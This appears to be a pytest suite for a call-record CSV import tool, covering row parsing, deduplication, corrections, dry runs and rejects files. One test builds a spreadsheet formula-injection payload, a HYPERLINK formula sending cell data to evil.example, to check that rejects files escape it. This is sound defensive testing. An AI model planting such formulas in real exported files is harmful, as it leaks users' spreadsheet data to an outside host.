"""Calls: what a row means, that nothing is lost or doubled, and that a drawn call stays as it was drawn."""

from __future__ import annotations

import csv
import hashlib
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import func, select

from intake import reading
from intake.call_rows import TALK_OF_UNANSWERED
from intake.call_store import BESIDE
from intake.calls import MADE_AGENTS
from intake.mapping import mapping_of
from survey.clock import ManualClock
from survey.db import db
from survey.errors import InputError, NotFound
from survey.models import Agent, Assignment, Call, Customer, ImportRecord, LaterRecord, Site
from tests import factories
from tests.factories import utc
from tests.intake import samples
from tests.intake.samples import one, rows


@pytest.fixture
def site(app: Flask, at_noon: ManualClock) -> Site:
    return samples.place()


# --- what a row means ---


def test_a_row_of_our_own_columns(site: Site, tmp_path: Path, at_noon: ManualClock) -> None:
    header = "call_id,agent,started_at,wait_seconds,talk_seconds,queue,topic,language,phone,email,internal"
    call = one(
        tmp_path, header, "c1,AMY ADAMS,2026-03-02 09:00:00,20,143,sales,bill,en-US,(212) 555-0101,Jo@Example.COM,no"
    )
    assert (call.site_id, call.source, call.external_id) == (site.id, "north", "c1")
    assert call.agent and call.agent.key == "amy"
    assert (call.started_at, call.ended_at) == (utc(2026, 3, 2, 14), utc(2026, 3, 2, 14, 2).replace(second=43))
    assert (call.answered, call.talk_seconds, call.queue, call.topic, call.language) == (
        True,
        143,
        "sales",
        "bill",
        "en",
    )
    assert call.customer and (call.customer.phone, call.customer.email) == ("+12125550101", "Jo@example.com")
    assert call.customer.language == "en" and call.contact_fault is None and not call.internal
    assert call.received_at == at_noon()


@pytest.mark.parametrize(
    ("header", "line", "talk", "answered", "length"),
    [
        ("id,started_at,wait_seconds,talk_seconds", "x,2026-03-02 09:00,30,60", 60, True, 90),
        ("id,started_at,duration,wait_seconds,answered", "x,2026-03-02 09:00,2:30,30,yes", 120, True, 150),
        ("id,started_at,ended_at,answered", "x,2026-03-02 09:00,2026-03-02 09:02:05,1", 125, True, 125),
        ("id,started_at,ended_at,talk_seconds", "x,2026-03-02 09:00,2026-03-02 09:05,100", 100, True, 300),
        ("id,started_at,talk_seconds", "x,2026-03-02 09:00,0", 0, False, 0),
        ("id,started_at,talk_seconds", "x,2026-03-02 09:00,", 0, False, 0),
        ("id,started_at,wait_seconds,talk_seconds,answered", "x,2026-03-02 09:00,40,,no", 0, False, 40),
        ("id,started_at,talk_seconds,answered", "x,2026-03-02 09:00,0,yes", 0, True, 0),
    ],
)
def test_end_talk_and_answered_are_worked_out(
    site: Site, tmp_path: Path, header: str, line: str, talk: int, answered: bool, length: int
) -> None:
    call = one(tmp_path, header, line)
    assert (call.talk_seconds, call.answered) == (talk, answered)
    assert (call.ended_at - call.started_at).total_seconds() == length


def test_talk_of_an_unanswered_call_is_left_out_and_counted(site: Site, tmp_path: Path) -> None:
    file = samples.written(tmp_path, rows("c1,,2026-03-02 09:00,35,no", header=samples.HEADER + ",answered"))
    report = samples.taken(file)
    assert report.notes[TALK_OF_UNANSWERED] == 1
    assert (samples.stored()["c1"].answered, samples.stored()["c1"].talk_seconds) == (False, 0)


def test_an_agent_named_on_an_unanswered_call_is_kept(site: Site, tmp_path: Path) -> None:
    call = one(tmp_path, samples.HEADER, "c1,amy,2026-03-02 09:00,0")
    assert not call.answered and call.agent is not None


def test_a_mapping_names_columns_values_constants_and_units(site: Site, tmp_path: Path) -> None:
    mapping = {
        "source": "switch",
        "columns": {"external_id": "Ref", "date": "Day", "time": "At", "talk_seconds": "Talk ms", "answered": "Got"},
        "constants": {"queue": "all", "language": "es", "internal": True},
        "values": {"answered": {"OK": True, "LOST": False}},
        "duration_unit": "milliseconds",
        "date_format": ["%d|%m|%Y"],
        "time_format": "%Hh%M",
    }
    call = one(tmp_path, "Ref,Day,At,Talk ms,Got", "7,02|03|2026,09h05,61500,ok", mapping=mapping_of(mapping))
    assert (call.source, call.queue, call.language, call.internal) == ("switch", "all", "es", True)
    assert (call.talk_seconds, call.started_at) == (62, utc(2026, 3, 2, 14, 5))


def test_a_value_the_mapping_does_not_name_rejects_its_row_alone(site: Site, tmp_path: Path) -> None:
    file = samples.written(
        tmp_path, rows("a,,2026-03-02 09:00,1,Y", "b,,2026-03-02 09:00,1,?", header=samples.HEADER + ",answered")
    )
    report = samples.taken(file, {"values": {"answered": {"Y": True}}})
    assert samples.counts(report) == (1, 0, 0, 1)
    assert report.rejects[0].where == "line 3" and report.rejects[0].column == "answered"


def test_each_row_may_name_its_site_whose_own_zone_then_counts(site: Site, tmp_path: Path) -> None:
    west = factories.site(
        organisation=site.organisation, key="west", name="West Coast", time_zone="America/Los_Angeles"
    )
    db.session.commit()
    text = rows(
        "a,2026-03-02 09:00,5,NORTH",
        "b,2026-03-02 09:00,5,west coast",
        "c,2026-03-02 09:00,5,east",
        header="id,started_at,talk_seconds,site",
    )
    report = samples.taken(samples.written(tmp_path, text), site=None, source="switch")
    assert samples.counts(report) == (2, 0, 0, 1) and report.rejected_by == {"unknown site": 1}
    calls = samples.stored()
    assert calls["b"].site_id == west.id
    assert (calls["b"].started_at - calls["a"].started_at).total_seconds() == 3 * 3600


def test_agents_found_by_key_or_name_others_rejected(site: Site, tmp_path: Path) -> None:
    for key in ("jo1", "jo2"):
        factories.agent(site, key=key, name="Jo")
    db.session.commit()
    lines = [f"{n},{name},2026-03-02 09:00,5" for n, name in enumerate(["Amy", "amy adams", "JO2", "jo", "Zed", ""])]
    report = samples.taken(samples.written(tmp_path, rows(*lines)))
    assert samples.counts(report) == (4, 0, 0, 2)
    assert report.rejected_by == {"several agents have this name": 1, "unknown agent": 1}
    assert samples.stored()["5"].agent_id is None


def test_agents_can_be_made_from_the_calls(site: Site, tmp_path: Path) -> None:
    late = samples.written(tmp_path, rows("2,Zed,2026-03-02 23:30,5", "3,zed,2026-03-05 09:00,5"), "late.csv")
    early = samples.written(
        tmp_path, rows("1,ZED,2026-02-03 09:00,5", "5,zed,2026-03-06 09:00,5", "4,amy,2014-06-03 09:00,5"), "early.csv"
    )
    assert samples.taken(late, create_agents=True).notes[MADE_AGENTS] == 1
    assert samples.taken(early, create_agents=True).notes[MADE_AGENTS] == 0
    rows_found = db.session.execute(select(Agent.name, Assignment.site_id, Assignment.starts_on).join(Assignment)).all()
    # An agent's first day is the earliest call's, whichever file came first; Amy's, too, for nobody leads her.
    assert {tuple(row) for row in rows_found} == {
        ("Zed", site.id, date(2026, 2, 3)),
        ("Amy Adams", site.id, date(2014, 6, 3)),
    }


def test_the_rosters_assignments_are_never_touched(site: Site, tmp_path: Path) -> None:
    factories.agent(site, factories.supervisor(site.organisation), key="bob")
    db.session.commit()
    samples.taken(samples.written(tmp_path, rows("1,bob,2020-03-02 09:00,5")), create_agents=True)
    assert {a.starts_on for a in db.session.query(Assignment)} == {factories.LONG_AGO}


# --- once and only once ---


def test_importing_twice_changes_nothing_and_a_correction_updates(site: Site, tmp_path: Path) -> None:
    first = samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60", "2,amy,2026-03-02 09:00,60"))
    samples.taken(first)
    before = {id: (call.id, call.import_id, call.received_at) for id, call in samples.stored().items()}
    assert samples.counts(samples.taken(first)) == (0, 0, 2, 0)
    corrected = samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,75", "2,amy,2026-03-02 09:00,60"))
    report = samples.taken(corrected)
    assert samples.counts(report) == (0, 1, 1, 0)
    assert (report.changes[0].what, report.changes[0].fields) == ("1", ["ended_at", "talk_seconds"])
    assert samples.stored()["1"].talk_seconds == 75
    assert {id: (call.id, call.import_id, call.received_at) for id, call in samples.stored().items()} == before


def test_a_call_repeated_in_one_file_is_one_call_and_its_last_record_counts(site: Site, tmp_path: Path) -> None:
    report = samples.taken(
        samples.written(
            tmp_path, rows("1,amy,2026-03-02 09:00,60", "1,amy,2026-03-02 09:00,60", "1,amy,2026-03-02 09:00,70")
        )
    )
    assert samples.counts(report) == (1, 1, 1, 0)
    assert samples.stored()["1"].talk_seconds == 70


def test_the_same_id_from_another_source_is_another_call(site: Site, tmp_path: Path) -> None:
    file = samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60"))
    for source in ("a", "b", "a"):
        samples.taken(file, source=source)
    assert db.session.scalars(select(Call.source).order_by(Call.source)).all() == ["a", "b"]


def test_a_later_record_of_a_drawn_call_is_kept_beside_and_changes_nothing(site: Site, tmp_path: Path) -> None:
    samples.taken(samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60", "2,amy,2026-03-02 09:00,60")))
    factories.draw(samples.stored()["1"], factories.campaign([site]))
    db.session.commit()
    later = samples.written(tmp_path, rows("1,,2026-03-02 09:00,90", "2,amy,2026-03-02 09:00,90"))
    for unchanged in (1, 2):
        report = samples.taken(later)
        assert samples.counts(report) == (0, 2 - unchanged, unchanged, 0) and report.notes[BESIDE] == 1
    assert samples.stored()["1"].talk_seconds == 60 and samples.stored()["2"].talk_seconds == 90
    (beside,) = db.session.query(LaterRecord)
    assert beside.call_id == samples.stored()["1"].id
    assert beside.record == {"ended_at": "2026-03-02T14:01:30+00:00", "talk_seconds": 90}
    assert samples.counts(samples.taken(samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60")))) == (0, 0, 1, 0)


def test_a_record_without_a_stamp_erases_nothing_by_what_it_leaves_out(site: Site) -> None:
    """A program that corrects one call of a batch need not repeat what it said of it before."""
    first = {"external_id": "1", "agent": "amy", "started_at": utc(2026, 3, 2, 14), "talk_seconds": 60}
    samples.taken([first | {"queue": "sales", "topic": "bill", "language": "en"}])
    second = first | {"external_id": "2", "queue": "help", "topic": "web", "language": "es"}
    correction = {name: first[name] for name in ("external_id", "started_at")} | {"talk_seconds": 90}
    assert samples.counts(samples.taken([correction, second])) == (1, 1, 0, 0)
    call = samples.stored()["1"]
    assert call.agent and (call.agent.key, call.queue, call.topic, call.language) == ("amy", "sales", "bill", "en")
    assert call.talk_seconds == 90


def test_batches_are_committed_as_they_go(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A process that dies in the midst leaves whole batches; running it again completes the rest."""
    monkeypatch.setattr(reading, "CHUNK", 10)
    file = samples.written(tmp_path, rows(*[f"{n},amy,2026-03-02 09:00,60" for n in range(35)]))

    def die(read: int) -> None:
        if read == 20:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        samples.taken(file, progress=die)
    db.session.rollback()
    assert len(samples.stored()) == 20
    (record,) = db.session.query(ImportRecord)
    assert (record.read, record.new, record.finished_at) == (20, 20, None)
    assert samples.counts(samples.taken(file)) == (15, 0, 20, 0)


def test_a_dry_run_says_what_would_happen_and_writes_nothing(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "CHUNK", 2)
    samples.taken(samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60")))
    tables = [Call, Customer, Agent, Assignment, ImportRecord]
    before = [db.session.scalar(select(func.count()).select_from(table)) for table in tables]
    lines = [
        "1,amy,2026-03-02 09:00,61,2125550101",
        "2,Zed,2026-03-02 09:00,6,2125550102",
        "x,amy,soon,6,",
        "2,Zed,2026-03-02 09:00,6,2125550102",
    ]
    file = samples.written(tmp_path, rows(*lines, header=samples.HEADER + ",phone"), "later.csv")
    report = samples.taken(file, dry_run=True, create_agents=True)
    assert samples.counts(report) == (1, 1, 1, 1) and report.import_id is None
    assert report.changes[0].what == "1" and "talk_seconds" in report.changes[0].fields
    assert report.rejects[0].where == "line 4"
    db.session.expire_all()
    assert [db.session.scalar(select(func.count()).select_from(table)) for table in tables] == before
    assert samples.stored()["1"].talk_seconds == 60
    assert samples.counts(samples.taken(file, create_agents=True)) == samples.counts(report)


# --- records, rejects, rows from programs ---


def test_every_import_is_a_record(site: Site, tmp_path: Path, at_noon: ManualClock) -> None:
    file = samples.written(
        tmp_path, b"call_id,agent,started_at,talk_seconds\n1,amy,2026-03-02 09:00,60\n2,bob,2026-03-02 09:00,60\n"
    )
    report = samples.taken(file)
    record = db.session.get(ImportRecord, report.import_id)
    assert record is not None
    assert (record.read, record.new, record.updated, record.unchanged, record.rejected) == (2, 1, 0, 0, 1)
    assert record.sha256 == hashlib.sha256(file.read_bytes()).hexdigest()
    assert (record.file_name, record.actor, record.source) == ("calls.csv", "test", "north")
    assert record.rejected_by == {"unknown agent": 1} and record.finished_at == at_noon()
    assert record.rejects_file and Path(record.rejects_file).read_text(encoding="utf-8").splitlines() == [
        "line,column,reason,call_id,agent,started_at,talk_seconds",
        "3,agent,unknown agent: 'bob',2,bob,2026-03-02 09:00,60",
    ]


def test_rejects_hold_neither_contacts_nor_columns_that_mean_nothing_to_us(site: Site, tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    text = rows(
        "1,=bob,2026-03-02 09:00,60,2125550101,jo@example.com,Jo Doe", header=samples.HEADER + ",phone,email,Customer"
    )
    samples.taken(samples.written(tmp_path, text), rejects=rejects)
    kept = rejects.read_text(encoding="utf-8")
    assert "5550101" not in kept and "jo@" not in kept and "Doe" not in kept
    assert ",'=bob," in kept  # no formula for a spreadsheet to run


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\0=", "＝"])
def test_no_cell_of_a_rejects_file_is_a_formula(site: Site, tmp_path: Path, sign: str) -> None:
    """Not the names of columns either: a file's header is as much its writer's as its rows are."""
    evil = f'{sign}HYPERLINK("http://evil.example/?"&A2)'
    columns = {name: name for name in ("external_id", "agent", "talk_seconds")} | {"started_at": evil.lstrip("\0")}
    header = 'external_id,"' + evil.lstrip("\0").replace('"', '""') + '",agent,talk_seconds'
    row = '1,nonsense,"' + evil.replace('"', '""') + '",60'
    rejects = tmp_path / "rejects.csv"
    samples.taken(samples.written(tmp_path, rows(row, header=header)), {"columns": columns}, rejects=rejects)
    with rejects.open(encoding="utf-8", newline="") as file:
        cells = [cell for kept in csv.reader(file) for cell in kept]
    assert sum("evil.example" in cell for cell in cells) >= 3
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in cells)


def test_rows_from_a_program(site: Site) -> None:
    given = {
        "external_id": "1",
        "agent": "amy",
        "started_at": utc(2026, 3, 2, 14),
        "talk_seconds": 60,
        "answered": True,
        "phone": "+12125550101",
    }
    report = samples.taken([given, {**given, "external_id": "2", "talk_seconds": -1}])
    assert samples.counts(report) == (1, 0, 0, 1) and report.rejected_by == {"talk_seconds: negative duration": 1}
    assert samples.stored()["1"].started_at == utc(2026, 3, 2, 14)
    assert samples.counts(samples.taken([])) == (0, 0, 0, 0)


@pytest.mark.parametrize(
    ("options", "error", "said"),
    [
        ({"organisation": "nobody"}, NotFound, "no organisation 'nobody'"),
        ({"site": "south"}, NotFound, "sites: north"),
        ({"site": None}, InputError, "its site, and no --site is given"),
        ({"rejects": Path("/nonexistent/rejects.csv")}, InputError, "cannot be written"),
        ({"format": "dbf"}, InputError, "Known: xlsx, amazon-connect"),
        ({"contacts": Path("none.csv")}, InputError, "none.csv: there is no such file"),
    ],
)
def test_what_stops_an_import_before_it_begins(
    site: Site, tmp_path: Path, options: dict[str, Any], error: type[Exception], said: str
) -> None:
    with pytest.raises(error) as refused:
        samples.taken(samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60")), **options)
    assert said in str(refused.value)
    db.session.rollback()
    assert samples.stored() == {}


def test_an_organisation_without_sites_gets_its_rows_back_rejected(app: Flask, tmp_path: Path) -> None:
    factories.organisation(key="acme")
    db.session.commit()
    file = samples.written(tmp_path, rows("1,amy,2026-03-02 09:00,60,north", header=samples.HEADER + ",site"))
    report = samples.taken(file, site=None, source="pbx")
    assert samples.counts(report) == (0, 0, 0, 1) and report.rejected_by == {"unknown site": 1}


def test_nothing_is_noted_of_a_row_that_is_rejected(site: Site, tmp_path: Path) -> None:
    row = f"1,amy,2026-03-02 09:00,60,no,{'x' * 1_001}"
    report = samples.taken(samples.written(tmp_path, rows(row, header=samples.HEADER + ",answered,topic")))
    assert samples.counts(report) == (0, 0, 0, 1) and not +report.notes
